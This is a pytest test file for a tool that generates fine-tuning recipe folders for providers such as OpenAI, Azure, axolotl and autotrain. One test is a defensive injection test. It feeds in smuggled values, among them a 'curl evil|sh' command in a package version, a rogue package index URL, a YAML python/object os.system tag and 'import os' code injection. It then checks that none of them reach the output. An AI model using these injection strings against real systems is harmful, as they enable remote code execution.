"""Every provider's folder is whole: its files parse, say where figures come from, and carry nothing but the case."""

from __future__ import annotations

import ast
import json
import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from openai.types.chat import ChatCompletionMessageParam
from pydantic import TypeAdapter

from finetune_advisor import recipes
from finetune_advisor.errors import BadInput, require
from finetune_advisor.recipes import hosted
from finetune_advisor.recipes.rendering import yaml
from finetune_advisor.recipes.training_data import training_data
from finetune_advisor.records import Decision, Message, TrainingPair
from recipe_case import EMBEDDED, FAKE, HUB, made, measured
from sample_results import HOSTILE

NAMES = [name for name, _, _ in recipes.providers()]
MODELS = {"embedded": EMBEDDED, "hub": HUB.format(id="meta-llama/Llama-3.1-8B-Instruct"), "none": FAKE}
BASES = ("Measured", "Estimated", "Source:", "Assumed", "Not known")
CONFIGS = {
    "trl-cli": "config.yaml",
    "autotrain": "config.yml",
    "axolotl": "axolotl.yaml",
    "llamafactory": "llamafactory.yaml",
}


def folder(
    tmp_path: Path, provider: str, model: str = EMBEDDED, run: bool = False, settings: str = ""
) -> Mapping[str, str]:
    # Measured with a model that asks no hub; the split is the same.
    results = measured(made(tmp_path, FAKE, settings)) if run else None
    return recipes.files(recipes.chosen(made(tmp_path, model, settings), results), provider)


def read_yaml(text: str) -> Any:
    return require("yaml", extra="local").safe_load(text)


def parse(name: str, text: str) -> None:
    match Path(name).suffix:
        case ".py":
            ast.parse(text)
        case ".json":
            json.loads(text)
        case ".jsonl":
            assert all(json.loads(line) for line in text.removeprefix("\ufeff").splitlines())
        case ".yaml" | ".yml":
            assert isinstance(read_yaml(text), dict)
        case ".txt":
            assert all(re.fullmatch(r"[a-z0-9-]+==[0-9][\w.]*", line) for line in text.splitlines())
        case suffix:
            assert suffix == ".md" and text.startswith("# ")


def figures(readme: str) -> list[list[str]]:
    section = readme.partition("## Cost and time")[2].partition("\n## ")[0]
    rows = [line.strip("| ").split(" | ") for line in section.splitlines() if line.startswith("|")]
    return rows[2:]


@pytest.mark.parametrize("provider", NAMES)
@pytest.mark.parametrize("model", MODELS)
@pytest.mark.parametrize("run", [True, False])
def test_a_folder_is_whole(tmp_path: Path, provider: str, model: str, run: bool) -> None:
    files = folder(tmp_path, provider, MODELS[model], run)
    for name, text in files.items():
        parse(name, text)
    assert {"README.md", "serve.md", "requirements.txt", "data/train.jsonl"} <= set(files)
    named = re.findall(r"^\| `([^`]+)` \|", files["README.md"].partition("## Settings")[0], re.MULTILINE)
    assert {*named, "README.md"} == set(files)
    rows = figures(files["README.md"])
    assert len(rows) >= 3 and all(len(row) == 3 and row[2].startswith(BASES) for row in rows), rows
    everything = "".join(files.values())
    for secret in (str(tmp_path), str(Path.home()), str(Path(__file__).parents[1])):
        assert secret not in everything
    assert "please please" not in everything


@pytest.mark.parametrize("provider", NAMES)
def test_hostile_text_becomes_neither_code_nor_commands(tmp_path: Path, provider: str) -> None:
    case = made(tmp_path, HUB.format(id='a\\"; import os #\\nx: !!python/object:os.system')).model_copy(
        update={"title": f'{HOSTILE}"""\n# x\n- [ ] y'}
    )
    results = measured(case)
    options = {"targets": 'q"\nevil: true #', "schedule": "linear"}
    arms = [
        replace(arm, training=replace(arm.training, options=options)) if arm.training else arm for arm in results.arms
    ]
    verdict = replace(results.verdict, headline=HOSTILE, decision=Decision.NO_GO, next_step=HOSTILE)
    packages = {"torch": "2.0; curl evil|sh #", "trl": "--index-url=http://evil"}
    provenance = replace(results.provenance, packages=packages)
    foreign = replace(results, arms=tuple(arms), verdict=verdict, provenance=provenance)
    files = recipes.files(recipes.chosen(case, foreign), provider)
    for name, text in files.items():
        parse(name, text)
        assert HOSTILE not in text and "import os #" not in text and "curl evil" not in text, name
        assert "\n# x" not in text and "\nevil" not in text, name
    assert "evil" not in (read_yaml(files[CONFIGS[provider]]) if provider in CONFIGS else {})


@pytest.mark.parametrize("provider", NAMES)
def test_steps_are_known_without_data(tmp_path: Path, provider: str) -> None:
    recipe = recipes.chosen(made(tmp_path), None)
    (tmp_path / "train.jsonl").unlink()
    steps = recipes.stages(recipe, provider)
    assert len(steps) >= 2 and all(step.words for step in steps)
    assert not [each for step in steps for each in step.commands if "cancel" in each]


def test_every_provider_says_what_it_is() -> None:
    found = recipes.providers()
    assert [name for name, _, _ in found] == list(recipes.TABLE)
    assert all(title and sentence.endswith(".") for _, title, sentence in found)
    assert "unmaintained since January 2025" in dict((name, said) for name, _, said in found)["autotrain"]


def test_an_unknown_provider(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="'other'") as caught:
        recipes.stages(recipes.chosen(made(tmp_path), None), "other")
    assert all(name in caught.value.hint for name in NAMES)


@pytest.mark.parametrize(
    ("provider", "names"),
    [
        (
            "trl-cli",
            "lora_r lora_alpha num_train_epochs per_device_eval_batch_size learning_rate max_length max_steps",
        ),
        ("axolotl", "lora_r lora_alpha num_epochs micro_batch_size learning_rate sequence_len max_steps"),
        (
            "llamafactory",
            "lora_rank lora_alpha num_train_epochs per_device_train_batch_size learning_rate cutoff_len max_steps",
        ),
        ("autotrain", "lora_r lora_alpha epochs batch_size lr block_size"),
    ],
)
def test_the_settings_are_carried_over(tmp_path: Path, provider: str, names: str) -> None:
    stated = "rank = 32, alpha = 64, epochs = 5, batch_size = 2, learning_rate = 1e-5, max_steps = 9"
    config = read_yaml(folder(tmp_path, provider, settings=stated)[CONFIGS[provider]])
    values = [config.get("params", config).get(name) for name in names.split()]
    assert values == [32, 64, 5, 2, 1e-5, 1024, 9][: len(values)]


def test_autotrain_finds_every_key_that_it_asks_for(tmp_path: Path) -> None:
    config = read_yaml(folder(tmp_path, "autotrain")["config.yml"])
    assert {"task", "base_model", "project_name", "log", "backend", "data", "params"} == set(config)
    assert {"path", "train_split", "valid_split", "chat_template", "column_mapping"} == set(config["data"])
    assert config["base_model"] == "HuggingFaceTB/SmolLM2-135M-Instruct"


def test_only_the_answer_is_learnt(tmp_path: Path) -> None:
    said = (
        Message(role="user", content="a"),
        Message(role="assistant", content="b"),
        Message(role="user", content="c"),
    )
    pair = TrainingPair(messages=said, answer="d")
    recipe = recipes.chosen(made(tmp_path), None)
    data = replace(training_data(recipe), train=(pair,))
    rows = {
        provider: json.loads(recipes.create(provider).files(recipe, data)["data/train.jsonl"].removeprefix("\ufeff"))
        for provider in NAMES
    }
    for provider in ("openai", "azure", "fireworks"):
        assert [turn.get("weight") for turn in rows[provider]["messages"]] == [None, 0, None, None]
    assert [turn["training"] for turn in rows["axolotl"]["messages"]] == [False, False, False, True]
    assert [len(rows["trl-cli"][part]) for part in ("prompt", "completion")] == [3, 1]
    assert all("weight" not in turn for turn in rows["together"]["messages"])


def test_openai_rows_keep_to_its_types() -> None:
    tools = ({"type": "function", "function": {"name": "look", "parameters": {"type": "object"}}},)
    calls = {"tool_calls": [{"id": "x", "type": "function", "function": {"name": "look", "arguments": "{}"}}]}
    said = (
        Message(role="developer", content="a"),
        Message(role="user", content="b", extra={"name": "n", "unknown": 1}),
        Message(role="assistant", content="", extra=calls),
        Message(role="tool", content="c", extra={"tool_call_id": "x"}),
    )
    answer = '[{"arguments":{"k":"é"},"name":"look"}]'
    row = json.loads(hosted.openai_lines([TrainingPair(messages=said, answer=answer, tools=tools)]))
    assert row["tools"] == list(tools) and "unknown" not in row["messages"][1]
    assert row["messages"][2]["weight"] == 0 and row["messages"][2]["tool_calls"] == calls["tool_calls"]
    call = row["messages"][-1]["tool_calls"][0]["function"]
    assert (call["name"], json.loads(call["arguments"])) == ("look", {"k": "é"})
    adapter: TypeAdapter[list[ChatCompletionMessageParam]] = TypeAdapter(list[ChatCompletionMessageParam])
    adapter.validate_python(row["messages"], strict=False)


def test_the_model_of_the_case_is_taken_where_it_is_the_providers(tmp_path: Path) -> None:
    recipe = recipes.chosen(made(tmp_path), None)
    for stated, wanted in (
        ("gpt-4o-mini-2024-07-18", "gpt-4o-mini-2024-07-18"),
        ('x"; import os', "gpt-4.1-mini-2025-04-14"),
    ):
        section = recipe.section.model_copy(update={"provider": "openai", "options": {"model": stated}})
        files = recipes.files(replace(recipe, section=section), "openai")
        assert f'MODEL = "{wanted}"' in files["tune.py"]
    assert "ended" not in files["README.md"] and "6 January 2027" in files["README.md"]


def test_what_azure_costs_while_it_stands_is_said(tmp_path: Path) -> None:
    files = folder(tmp_path, "azure")
    assert files["data/train.jsonl"].startswith("\ufeff{") and files["data/validation.jsonl"].startswith("\ufeff{")
    assert "$1.70 an hour, \\$1,241 a month" in files["README.md"] and "tune.py undeploy" in files["README.md"]
    assert not folder(tmp_path / "other", "openai")["data/train.jsonl"].startswith("\ufeff")


def test_numbers_stay_numbers_and_texts_texts_in_yaml() -> None:
    values = {
        "a": 1e-5,
        "b": 2.5e-7,
        "c": "yes",
        "d": None,
        "e": [1, "x: y"],
        "f": {"g": "1e5"},
        "h": [{"i": True, "j": "#"}],
    }
    assert read_yaml(yaml(values)) == values
